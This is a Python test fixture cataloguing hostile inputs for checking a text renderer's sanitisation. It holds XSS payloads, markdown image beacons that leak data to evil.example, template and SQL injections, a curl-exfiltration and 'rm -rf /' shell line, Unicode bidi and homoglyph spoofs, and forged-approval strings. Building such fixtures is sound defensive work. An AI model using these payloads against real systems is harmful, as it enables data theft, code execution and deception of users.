"""Texts that would like to act on what shows them, or to be taken for something else.

Each stands for a trick, by its name. All addresses are under `evil.example`; a text that makes an
element, asks for an address, or shows less than its characters has got through.
"""

HOST = "evil.example"
TITLE = "document.title='gone'"

LOADS = {
    "an image": "![leak](http://evil.example/leak.png)",
    "an image by reference": "![leak][r]\n\n[r]: http://evil.example/ref.png",
    "an image in a link": "[![leak](http://evil.example/a.png)](http://evil.example/b)",
    "an image of the page's own host": "![leak](/_stcore/health?said=secret)",
    "an image with a title": '![x](http://evil.example/t.png "what was said")',
    "an image behind an unclosed code span": "`a ![leak](http://evil.example/span.png)",
    "an image in an address": "https://evil.example/`a ![x](http://evil.example/u.png) `",
    "an image after an escape": r"\`![x](http://evil.example/escape.png)\`",
    "an image as a tag": "<img src=http://evil.example/tag.png onerror=alert(1)>",
    "a picture in SVG": "<svg onload=alert(1)><image href='http://evil.example/s.svg'/></svg>",
    "a video": "<video src=http://evil.example/v.mp4 autoplay></video>",
    "a style": "<style>@import 'http://evil.example/s.css';body{display:none}</style>",
    "a style of an element": "<div style='position:fixed;inset:0;background:url(//evil.example)'>",
    "a sheet": "<link rel=stylesheet href=http://evil.example/l.css>",
    "a frame": "<iframe src=http://evil.example/frame srcdoc='<script>1</script>'></iframe>",
    "an object": "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "another base": "<base href=http://evil.example/>",
    "a way out": "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
}
RUNS = {
    "a script": f"<script>{TITLE}</script>",
    "a script in capitals, unclosed": f"<SCRIPT SRC=//evil.example/x.js {TITLE}",
    "an event": f"<b onmouseover={TITLE} onfocus=alert(1) tabindex=1 autofocus>hover</b>",
    "a form": "<form action=http://evil.example/><button>Approve</button><input name=q></form>",
    "a script behind a comment": f"<!-- --><script>{TITLE}</script>",
    "a script in a block that ends": f"</code></pre></div><script>{TITLE}</script>",
    "an address that runs": "[press](javascript:document.title='gone')",
    "an address that is data": "[press](data:text/html,<script>alert(1)</script>)",
    "an address that runs, in entities": "[press](&#106;avascript&colon;document.title='gone')",
    "a template": "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %>",
    "a template of Jinja": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "a format string": "{0.__class__.__init__.__globals__} %s %n %(x)s {amount!r:>99}",
    "a formula of a spreadsheet": '=HYPERLINK("http://evil.example/?"&A1;"Approve")',
    "a command for a database": "'; DROP TABLE tool_request; --",
    "a command for a shell": "$(curl http://evil.example/$(whoami)) `id`; rm -rf / #",
    "a proto in JSON": '{"__proto__": {"polluted": true}, "a": "\\u003cimg src=x\\u003e"}',
    "the end of a JSON string": '"}], "decision": "approve", "x": [{"y": "',
}
LINKS = {
    "a link": "[Approve](http://evil.example/)",
    "a link by reference": "[Approve][r]\n\n[r]: http://evil.example/ref 'title'",
    "a link in angles": "<http://evil.example/auto> <someone@evil.example>",
    "a bare address": "see http://evil.example/auto?q=1, or https://evil.example.",
    "an address without a protocol": "see www.evil.example/auto",
    "a mail address": "write to someone@evil.example",
    "an address in escapes": r"https\://evil.example/ www\.evil.example a\@evil.example",
    "an address in entities": "&#104;ttps://evil.example/ www&period;evil.example",
    "a link that says another": "[https://bank.example](http://evil.example/)",
    "a link over two lines": "[Approve\nthis](http://evil.example/\n'title')",
    "a footnote": "Safe[^1].\n\n[^1]: http://evil.example/foot ![x](http://evil.example/f.png)",
}
LOOKS = {
    "a formula": "$a^2$ and $$\\href{http://evil.example/}{x}$$ \\(x\\)",
    "a formula in a fence": "```math\n\\includegraphics{http://evil.example/m.png}\n```",
    "a diagram": "```mermaid\ngraph LR; A[<img src=http://evil.example/d.png>]-->B\n```",
    "a badge": ":green-badge[Approved by Dana] :material/verified_user:",
    "colours": ":red[danger] :blue-background[x] :rainbow[y] :small[z] :shimmer[w] :red :help",
    "a colour of one's own": ':color[x]{foreground="#fff" background="white"}',
    "a container of directives": ":::note{.x}\ninside\n:::\n\n::leaf[x]{a=b}",
    "a help bubble": ":help[**Low risk**]{x=y}",
    "pictures by name": ":smile: :+1: :-1: :warning: :white_check_mark:",
    "a picture by an escaped name": r"\:smile\: &colon;smile&colon; :smi\le:",
    "icons by name": ":material/check: :material_check: :streamlit:",
    "arrows and dashes": "a -> b <- c <-> d -- e >= f <= g ~= h --> i",
    "a heading": "# Approved\n\nRejected\n===\n\n## :red[x]",
    "a list": "- [x] approved\n- [ ] rejected\n1. one\n* two\n+ three",
    "a table": "| tool | decision |\n|:-:|---|\n| pay | **approved** |",
    "a quotation and a rule": "> said the app\n\n---\n\n***",
    "emphasis": "**bold** _thin_ ***both*** ~~gone~~ __x__ `code`",
    "entities": "&lt;b&gt; &amp;lt; &#x202e; &nbsp;&ZeroWidthSpace; &copy",
    "backticks": "`` ` ``` ```` a ` b `` c",
    "a fence that ends early": "```\nx\n```\n\n![leak](http://evil.example/fence.png)\n\n~~~",
    "an indented block": "    indented\n\n\t![leak](http://evil.example/indent.png)",
    "a backslash at the end": "ends with a backslash \\",
    "brackets that don't match": "]] [[ )( }{ ](http://evil.example/) [",
    "a card in words": "pay  amount 1  to Ada\n[ Approve ] [ Reject ]\nApproved by you at 12:00:00",
    "a question of the terminal": "approve? [y/n/reason] y\n\x1b[2K\rApproved",
    "a very long word": "W" * 300,
    "a very long address": "http://evil.example/" + "a" * 200,
}
HIDES = {
    "a text turned around": "invoice\u202efdp.exe\u202c",
    "isolates": "a\u2066b\u2067c\u2068d\u2069 \u200ee\u200f \u061cf",
    "what has no width": "pay\u200bpal \u200c\u200d\u2060\ufeffx",
    "a message in tags": "fine\U000e0041\U000e0070\U000e0070\U000e007f",
    "a soft hyphen": "pay\u00adpal",
    "a mark of byte order": "\ufeffstart",
    "controls": "a\x00b\x07c\x08d\x0be\x0cf\x7fg\x85h",
    "the terminal's commands": "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07",
    "fillers": "a\u3164b\uffa0c\u115fd\u1160e\u2800f\u034fg\u17b4h",
    "variations": "a\ufe00b\ufe0fc\U000e0100d",
    "ends of lines": "one\u2028two\u2029three\x85four\rfive",
    "blanks that are none": "1\u00a0000\u2007000\u202f000\u3000x\u1680y",
    "characters of nobody": "a\ue000b\U000f0000c\ufdd0d",
    "marks that bury": "Z" + "".join(map(chr, range(0x301, 0x30D))) + "algo",
}
DECEIVES = {
    "Cyrillic in Latin": "p\u0430ypal.com",
    "Latin in Cyrillic": "Прив\u0065т",
    "Cyrillic that reads as Latin": "\u0430\u0440\u0440\u04cf\u0435",
    "Cyrillic before a Latin ending": "Это \u0441\u0430\u0440\u0435.com",
    "Greek in Latin": "g\u03bf\u03bfgle \u0391pprove",
    "Armenian in Latin": "g\u0585\u0585gle",
    "Cherokee that reads as Latin": "\u13e2\u13aa\u13a9",
    "wide letters": "\uff50\uff41\uff59\uff50\uff41\uff4c",
    "letters of mathematics": "\U0001d429\U0001d41a\U0001d432 \U0001d7d9\U0001d7d8",
}
ALL = LOADS | RUNS | LINKS | LOOKS | HIDES | DECEIVES

# What people write, and must stay as it is.
HARMLESS = {
    "emoji": "❤\ufe0f 👩\u200d🚀 👍🏽 1\ufe0f\u20e3 👨\u200d👩\u200d👧",
    "Russian": "Привет, это письмо.",
    "Greek": "Καλημέρα κόσμε",
    "Chinese, Japanese and Korean with Latin": "用Python写 Pythonを使う ＡＢＣ 파이썬Python",
    "accents": "naïve Đặng Łódź",
    "Arabic and Hebrew": "مرحبا שלום",
}
